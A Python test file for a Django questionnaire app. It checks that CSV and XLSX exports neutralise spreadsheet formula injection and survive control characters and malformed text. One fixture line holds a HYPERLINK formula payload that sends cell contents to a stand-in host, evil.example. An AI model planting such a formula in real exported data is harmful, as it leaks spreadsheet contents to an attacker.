"""The CSV and XLSX exports of a questionnaire whose texts, answers and invitation addresses were written to attack a
spreadsheet: every formula payload (= + - @, tab- or CR-prefixed) is written as text, control characters (which
every input refuses, but older rows may hold) never make the file fail, and a lone surrogate, a NUL or a 100 KB
text in a row still gives a file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from fankui.accounts.models import User
from fankui.core.errors import ValidationFailed
from fankui.questionnaires.models import Choice, Invitation, Question, Questionnaire, State
from fankui.questionnaires.services import building, distribution, exports
from fankui.questionnaires.services.answering import submit
from fankui.questionnaires.services.building import ChoiceInput, QuestionInput, Settings

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"看")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile(user: User) -> Questionnaire:
    questionnaire = building.create(user, Settings(title_zh="=1+1 满意度"))
    page = questionnaire.current_version.pages.get()  # type: ignore[union-attr]

    def add(**data: Any) -> Question:
        return building.save_question(user, questionnaire, QuestionInput(page_key=page.key, **data))

    add(kind="nps", text_zh="=推荐", required=True)
    add(kind="single", text_zh="+窗口", options=[ChoiceInput(f) for f in FORMULAS])
    add(kind="multiple", text_zh="-问题", options=[ChoiceInput(f) for f in FORMULAS])
    add(kind="matrix", text_zh="@打分", options=[ChoiceInput("=好"), ChoiceInput("-差")], rows=[ChoiceInput("=流程")])
    add(kind="text", text_zh="\t=还有什么")
    building.set_state(user, questionnaire, State.PUBLISHED)
    questionnaire.refresh_from_db()
    return questionnaire


def answer_all(questionnaire: Questionnaire, text: str, invitation: Invitation | None = None) -> None:
    version = questionnaire.current_version
    assert version is not None
    values: dict[str, Any] = {}
    for question in version.questions.prefetch_related("choices"):
        options = [c.key for c in question.choices.all() if c.axis == "option"]
        rows = [c.key for c in question.choices.all() if c.axis == "row"]
        if question.kind == "nps":
            values[question.key] = "3"
        elif question.kind == "single":
            values[question.key] = options[0]
        elif question.kind == "multiple":
            values[question.key] = options
        elif question.kind == "matrix":
            values[question.key] = {r: options[0] for r in rows}
        else:
            values[question.key] = text
    submit(questionnaire, values, invitation=invitation)


def exported(client: Client, questionnaire: Questionnaire) -> tuple[list[str], list[Any]]:
    """Every text cell of the CSV and every cell of the XLSX export (formulas as the workbook holds them)."""
    base = f"/staff/questionnaires/{questionnaire.pk}/results/export/"
    text = client.get(base, {"format": "csv"})
    book = client.get(base, {"format": "xlsx"})
    assert text.status_code == 200 and book.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(text.content.decode("utf-8-sig"))) for c in row]
    sheet = load_workbook(io.BytesIO(book.content)).active
    return cells, [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(cells: list[str], sheet: list[Any]) -> None:
    assert not [c for c in cells if c.startswith(STARTS)]
    assert not [c.coordinate for c in sheet if c.data_type == "f"]
    assert not [c.value for c in sheet if isinstance(c.value, str) and c.value.startswith(STARTS)]


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_payload_is_written_as_text(supervisor: User, client_for: Any, text: str) -> None:
    questionnaire = hostile(supervisor)
    distribution.add_invitations(supervisor, questionnaire, b"=1+2@example.cn\n")
    answer_all(questionnaire, text, invitation=questionnaire.invitations.get())
    answer_all(questionnaire, text)
    cells, sheet = exported(client_for(supervisor), questionnaire)
    assert_inert(cells, sheet)
    # The written answer (masked as every written answer is), after its apostrophe.
    start = "'" + text.strip()[:4]
    assert any(c.startswith(start) for c in cells)
    assert any(isinstance(c.value, str) and c.value.startswith(start) for c in sheet)
    assert "'=流程: =好" in cells  # a matrix row and its column, both labels as written


def test_control_characters_in_older_rows_never_make_the_file_fail(supervisor: User, client_for: Any) -> None:
    questionnaire = hostile(supervisor)
    # Rows as an older version (or a hand-made import) may have left them: every input refuses them now.
    Question.objects.filter(kind="single").update(text_zh="窗口\x0b号")
    Choice.objects.filter(question__kind="single").update(label_zh="=一\x1b号")
    invitation = Invitation.objects.create(
        questionnaire=questionnaire, channel="email", address='"\x01a"@example.cn', address_hash="h", nonce="n" * 32
    )
    answer_all(questionnaire, "好", invitation=invitation)
    cells, sheet = exported(client_for(supervisor), questionnaire)
    assert_inert(cells, sheet)
    assert "窗口号" in cells and "'=一号" in cells
    assert not [c for c in cells if any(ord(ch) < 32 and ch not in "\t\n\r" for ch in c)]


def test_an_invitation_list_refuses_an_address_with_a_control_character(supervisor: User) -> None:
    questionnaire = hostile(supervisor)
    report = distribution.add_invitations(supervisor, questionnaire, b'a@example.cn\n"\x01b"@example.cn\n')
    assert report.added == 1 and len(report.problems) == 1
    with pytest.raises(ValidationFailed):
        distribution.add_invitations(supervisor, questionnaire, b'"\x00c"@example.cn\n')


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_the_file_writer_takes_any_text(supervisor: User, monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    questionnaire = hostile(supervisor)

    def rows(*_args: Any) -> Iterator[list[Any]]:
        yield ["=header", "ok"]
        yield ["a\x00b", "lone \ud800 half", "长" * 100_000, "\r=1+1", 7]

    monkeypatch.setattr(exports, "rows", rows)
    content = exports.render(questionnaire, fmt)
    if fmt == "csv":
        lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert lines[0] == ["'=header", "ok"]
        assert lines[1][:2] == ["ab", "lone  half"] and lines[1][3] == "'\r=1+1"
    else:
        values = [c.value for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
        assert values[:2] == ["'=header", "ok"] and "ab" in values and 7 in values
